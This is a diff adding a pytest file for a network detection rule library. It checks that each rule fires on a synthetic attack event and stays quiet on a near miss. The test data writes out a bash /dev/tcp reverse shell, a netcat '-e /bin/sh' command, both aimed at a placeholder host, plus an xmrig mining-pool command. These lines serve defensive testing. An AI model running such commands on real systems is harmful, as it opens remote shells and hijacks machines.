@@ -1,0 +1,140 @@
+"""The shipped rule library: each rule fires on its attack and not on a near miss."""
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from rules.fields import EVENT_TYPES
+from rules.loader import load_rules, load_rules_text
+
+DEFAULT = Path(__file__).resolve().parent.parent / "rules" / "default"
+CTR = {"container.id": "3f4e5d6c7b8a", "container.image.repository": "ghcr.io/acme/api",
+       "k8s.ns.name": "shop", "k8s.pod.name": "api-1", "k8s.pod.labels": {"app": "api"},
+       "proc.exec_id": "e-1", "evt.time": 1_700_000_000_000_000_000, "evt.dir": "<",
+       "evt.num": 1, "user.uid": 0, "user.name": "root"}
+HOST = {**CTR, "container.id": "host", "container.image.repository": "", "k8s.ns.name": "",
+        "k8s.pod.labels": {}}
+
+
+def conn(sip: str, sport: int, *, proto: str = "tcp", etype: str = "connect", base=CTR,
+         **kw) -> dict:
+    e = {**base, "evt.type": etype, "evt.res": "SUCCESS", "evt.rawres": 0, "fd.type": "ipv4",
+         "fd.typechar": "4", "fd.l4proto": proto, "fd.cip": "10.0.0.5", "fd.cport": 41000,
+         "fd.sip": sip, "fd.sport": sport, "fd.lip": "10.0.0.5", "fd.lport": 41000,
+         "fd.rip": sip, "fd.rport": sport, "proc.name": "curl", "proc.exepath": "/usr/bin/curl",
+         "proc.cmdline": "curl x", "fd.name": f"10.0.0.5:41000->{sip}:{sport}"}
+    e.update(kw)
+    return e
+
+
+def execve(name: str, args: str, base=CTR, **kw) -> dict:
+    e = {**base, "evt.type": "execve", "evt.res": "SUCCESS", "evt.rawres": 0, "proc.name": name,
+         "proc.exepath": f"/usr/bin/{name}", "proc.args": args,
+         "proc.cmdline": f"{name} {args}".strip(), "proc.pname": "bash"}
+    e.update(kw)
+    return e
+
+
+def listen(port: int, name: str = "app", base=CTR) -> dict:
+    return {**base, "evt.type": "listen", "fd.type": "ipv4", "fd.l4proto": "tcp",
+            "fd.sip": "0.0.0.0", "fd.sport": port, "fd.lip": "0.0.0.0", "fd.lport": port,
+            "proc.name": name, "proc.exepath": f"/usr/bin/{name}", "proc.cmdline": name}
+
+
+RESTRICTED = {**CTR, "k8s.pod.labels": {"app": "api", "netvigil.io/egress-policy": "strict"}}
+
+CASES = {
+    "Unauthorized Egress Connection": (
+        conn("93.184.216.34", 443, base=RESTRICTED),
+        conn("10.2.3.4", 443, base=RESTRICTED)),           # internal destination
+    "Unexpected Listening Port in Container": (listen(4444), listen(8080)),
+    "Reverse Shell Socket Redirected to Standard Streams": (
+        conn("198.51.100.7", 4444, etype="dup2", **{"evt.rawres": 1, "proc.name": "bash"}),
+        conn("198.51.100.7", 4444, etype="dup2", **{"evt.rawres": 5, "proc.name": "bash"})),
+    "Reverse Shell Command Line": (
+        execve("bash", "-c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
+        execve("bash", "-c ls /dev/")),
+    "Cloud Metadata Service Contacted from Container": (
+        conn("169.254.169.254", 80), conn("169.254.169.254", 80, base=HOST)),
+    "Connection to Crypto Mining Pool Port": (
+        conn("45.9.148.1", 3333, base=HOST), conn("45.9.148.1", 8080, base=HOST)),
+    "Crypto Mining Stratum Protocol in Command Line": (
+        execve("xmrig", "-o stratum+tcp://pool.example:3333 -u w"),
+        execve("xmrig", "--help")),
+    "System Binary Making Network Connection": (
+        conn("93.184.216.34", 443, base=HOST, **{"proc.name": "ls"}),
+        conn("127.0.0.1", 443, base=HOST, **{"proc.name": "ls"})),
+    "Unexpected UDP Traffic from Container": (
+        conn("203.0.113.5", 9999, proto="udp", etype="sendto"),
+        conn("203.0.113.5", 53, proto="udp", etype="sendto")),
+    "SSH Connection to Non-Standard Port": (
+        conn("203.0.113.5", 2222, base=HOST, **{"proc.name": "ssh"}),
+        conn("203.0.113.5", 22, base=HOST, **{"proc.name": "ssh"})),
+    "Interpreter Opened a Listening Socket": (listen(8000, "python3", HOST),
+                                              listen(8000, "gunicorn", HOST)),
+    "Packet Socket Created in Container": (
+        {**CTR, "evt.type": "socket", "evt.arg.domain": "AF_PACKET", "evt.arg.type": "SOCK_RAW",
+         "proc.name": "tcpdump"},
+        {**HOST, "evt.type": "socket", "evt.arg.domain": "AF_PACKET", "evt.arg.type": "SOCK_RAW",
+         "proc.name": "tcpdump"}),
+    "Netcat or Socat Remote Code Execution": (
+        execve("nc", "-e /bin/sh 198.51.100.7 4444"), execve("nc", "-zv 198.51.100.7 4444")),
+    "Suspicious Network Tool Launched": (execve("nmap", "-sS 10.0.0.0/24"),
+                                         execve("nslookup", "example.com")),
+}
+
+
+@pytest.fixture(scope="module")
+def shipped():
+    return load_rules([DEFAULT])
+
+
+def test_every_shipped_rule_has_a_case(shipped) -> None:
+    assert sorted(shipped.names) == sorted(CASES)
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_fires_on_attack_not_on_near_miss(shipped, name: str) -> None:
+    hit, miss = CASES[name]
+    assert name in [m.rule for m in shipped.evaluate(hit)]
+    assert name not in [m.rule for m in shipped.evaluate(miss)]
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_rule_metadata(shipped, name: str) -> None:
+    rule = shipped.rule(name)
+    assert rule.desc and rule.enabled
+    assert any(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in rule.tags)
+    assert any(re.fullmatch(r"TA\d{4}", t) for t in rule.tags)
+    assert rule.evt_types and rule.evt_types <= set(EVENT_TYPES)
+    text, _ = rule.output.render(CASES[name][0])
+    assert "<NA>" not in text.split("(")[0]  # the headline renders real values
+    if rule.enforce is not None:
+        assert rule.enforce.mode == "audit"
+
+
+def test_enforcing_rules_are_audit_only_and_produce_requests(shipped) -> None:
+    enforcing = sorted(r.name for r in shipped.rules if r.enforce is not None)
+    assert len(enforcing) == 5
+    m = next(m for m in shipped.evaluate(conn("169.254.169.254", 80)) if m.enforcement)
+    assert m.enforcement.mode == "audit" and m.enforcement.cidrs == ("169.254.169.254/32",)
+
+
+def test_tuning_by_overriding_lists_and_macros() -> None:
+    extra = """
+- list: netvigil_allowed_listen_ports
+  items: [4444]
+  override:
+    items: append
+- macro: allowed_egress_by_image
+  condition: (container.image.repository = ghcr.io/acme/api and fd.sport = 443)
+  override:
+    condition: replace
+"""
+    texts = [p.read_text() for p in sorted(DEFAULT.glob("*.yaml"))]
+    rs = load_rules_text("\n".join(texts) + extra)
+    assert not rs.evaluate(listen(4444))
+    assert not rs.evaluate(conn("93.184.216.34", 443, base=RESTRICTED))
+    assert rs.evaluate(conn("93.184.216.34", 8443, base=RESTRICTED))
